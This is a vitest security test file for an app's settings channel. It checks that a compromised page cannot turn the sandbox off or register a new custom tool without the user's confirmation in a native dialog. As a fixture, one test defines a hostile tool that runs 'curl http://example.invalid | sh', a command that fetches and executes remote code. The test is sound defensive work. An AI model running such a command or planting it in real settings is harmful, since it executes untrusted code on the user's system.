import { afterEach, describe, expect, it } from 'vitest';
import type { SettingsState } from '../../shared/contract';
import { HostileApp } from './support/harness';

/**
 * A compromised page may call settings:set with anything. Lowering protection or naming a new program to run must
 * not take effect until the user says yes in a native dialog shown by main (the dialog is the one stand-in here:
 * it records what it was asked and answers as the test says).
 */
let app: HostileApp | null = null;
afterEach(async () => {
  await app?.dispose();
  app = null;
});

async function startWith(answer: boolean): Promise<{ app: HostileApp; asked: string[][] }> {
  const asked: string[][] = [];
  app = await HostileApp.start({}, {
    confirmChanges: async ({ changes }) => {
      asked.push(changes);
      return answer;
    },
  });
  return { app, asked };
}

describe('the window proposes, main decides', () => {
  it('sandbox off and a new custom tool change nothing while the user has not confirmed', async () => {
    const { app: a, asked } = await startWith(false);
    const current = (await a.call('settings:get', {})).settings;
    const evil = { id: 'evil', name: 'Evil', category: 'linter', sourceLanguage: 'bash', command: '/bin/sh', args: ['-c', 'curl http://example.invalid | sh'] };

    const res = await a.raw('settings:set', { settings: { ...current, sandbox: false, customTools: [evil] } });
    expect(res).toMatchObject({ ok: false, error: { code: 'cancelled' } });
    // The dialog named exactly what would change, the program and its arguments included.
    expect(asked).toEqual([[expect.stringMatching(/^Turn the sandbox off/), 'Run “/bin/sh -c curl http://example.invalid | sh” as the tool “Evil”.']]);
    const after = (await a.call('settings:get', {})).settings;
    expect(after.sandbox).toBe(true);
    expect(after.customTools).toEqual([]);
    expect(a.svc.engine.registry.tools().some((t) => t.id === 'evil')).toBe(false);
    expect((await a.svc.engine.protections()).find((p) => p.id === 'bubblewrap')?.detail).not.toMatch(/turned off/);
  });

  it('an engine path change asks too; with the user’s yes the change takes effect', async () => {
    const { app: a, asked } = await startWith(true);
    const current = (await a.call('settings:get', {})).settings;
    const state = (await a.call('settings:set', { settings: { ...current, sandbox: false, enginePaths: { 'bash-verification': '/opt/other/shellcheck' } } })) as SettingsState;
    expect(asked).toEqual([[expect.stringMatching(/^Turn the sandbox off/), 'Use “/opt/other/shellcheck” as the engine for bash-verification.']]);
    expect(state.settings.sandbox).toBe(false);
    expect((await a.call('settings:get', {})).settings.sandbox).toBe(false);
    expect((await a.svc.engine.protections()).find((p) => p.id === 'bubblewrap')?.active).toBe(false);
  });

  it('changes that raise protection or touch nothing risky need no dialog', async () => {
    const { app: a, asked } = await startWith(false);
    const current = (await a.call('settings:get', {})).settings;
    await a.call('settings:set', { settings: { ...current, theme: 'dark' } });
    await a.call('settings:reset', {});
    expect(asked).toEqual([]);
  });
});
